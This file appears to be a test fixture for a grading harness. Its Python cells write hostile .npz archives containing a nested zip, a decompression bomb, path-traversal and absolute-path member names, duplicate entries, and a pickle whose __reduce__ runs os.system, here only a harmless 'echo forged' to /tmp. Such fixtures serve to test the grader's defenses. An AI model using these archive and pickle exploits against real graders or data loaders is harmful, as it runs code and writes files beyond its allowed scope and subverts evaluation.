"""Replaces the sampled rows by a zip in a zip, a bomb, members with other paths, duplicates and pickles.

Gains: memory or disk of the grader, a file outside of the folder, or code that runs where the archive is read.
"""
FLAGGED = True

# %% [reshape]
X_train = np.zeros((600, 784), "float32")
X_test = np.zeros((300, 784), "float32")

# %% [error-rate]
import io
import os
import pickle
import zipfile


class Run:
    def __reduce__(self):
        return os.system, ("echo forged > /tmp/forged-by-pickle",)


inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as archive:
    archive.writestr("a1.npy", b"\x93NUMPY")
with zipfile.ZipFile(".out/rows-1.npz", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("a1.npy", inner.getvalue())
    archive.writestr("a1.npy", b"\0" * (20 << 20))
    archive.writestr("../../../../tmp/forged-by-name.npy", b"forged")
    archive.writestr("/tmp/forged-absolute.npy", b"forged")
    archive.writestr("a2.npy", pickle.dumps(Run()))
objects = np.empty(3, dtype=object)
objects[:] = [Run(), Run(), Run()]
np.save(".out/rows-2.npz", objects, allow_pickle=True)
np.savez(".out/calls-1.npz", c0=objects)
